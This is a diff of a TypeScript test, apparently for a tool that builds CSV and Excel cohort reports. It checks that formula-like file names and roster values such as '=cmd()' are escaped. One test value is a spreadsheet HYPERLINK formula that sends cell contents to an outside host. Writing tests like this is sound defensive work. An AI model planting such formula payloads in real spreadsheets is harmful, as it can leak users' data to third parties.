@@ -93,11 +93,14 @@ describe('a cohort', () => {
     const names = ['=cmd()', '+1', '-2', '@x', '\t=3', '\uFF1D5'].sort();
     for (const name of names)
       await here.write(`drafts/${name}.txt`, 'I would be glad to train at your program and to learn there.');
+    const shown = names.map((name) => `${name.replace('\t', '\\u0009')}.txt`);
     const evil = '=HYPERLINK("https://example.org/?"&A1)';
     await here.write('roster.csv', `file,applicant\n@x.txt,"${evil.replaceAll('"', '""')}"\n`);
     expect((await here.run(['cohort', 'drafts', '--roster', 'roster.csv'])).code).toBe(0);
     const csv: string[][] = parse(await here.read('report/summary.csv'), { bom: true });
-    expect(csv.slice(1).map(([draft]) => draft)).toEqual(names.map((name) => `'${name}.txt`));
+    expect(csv.slice(1).map(([draft]) => draft)).toEqual(
+      shown.map((name) => (name.startsWith('\\') ? name : `'${name}`)),
+    );
     expect(csv.map(([, applicant]) => applicant).filter(Boolean)).toEqual(['applicant', `'${evil}`]);
     const parts = unzipSync(await readFile(join(here.path, 'report/summary.xlsx')));
     const sheet = strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
@@ -107,9 +110,7 @@ describe('a cohort', () => {
     const targets = [...links.matchAll(/ Target="([^"]+)" TargetMode="External"/g)].map(([, file]) => file);
     expect(targets).toEqual((await reportIn(here)).files.map(({ page }) => page));
     const data = await readSheet(join(here.path, 'report/summary.xlsx'));
-    expect(data.slice(1).map(([draft]) => String(draft).trim())).toEqual(
-      names.map((name) => `${name.trim()}.txt`),
-    );
+    expect(data.slice(1).map(([draft]) => String(draft).trim())).toEqual(shown);
     expect(data.map(([, applicant]) => applicant).filter(Boolean)).toEqual(['applicant', evil]);
     const words = data[0]?.indexOf('words') ?? -1;
     expect(data.slice(1).map((row) => row[words])).toEqual(names.map(() => 13));
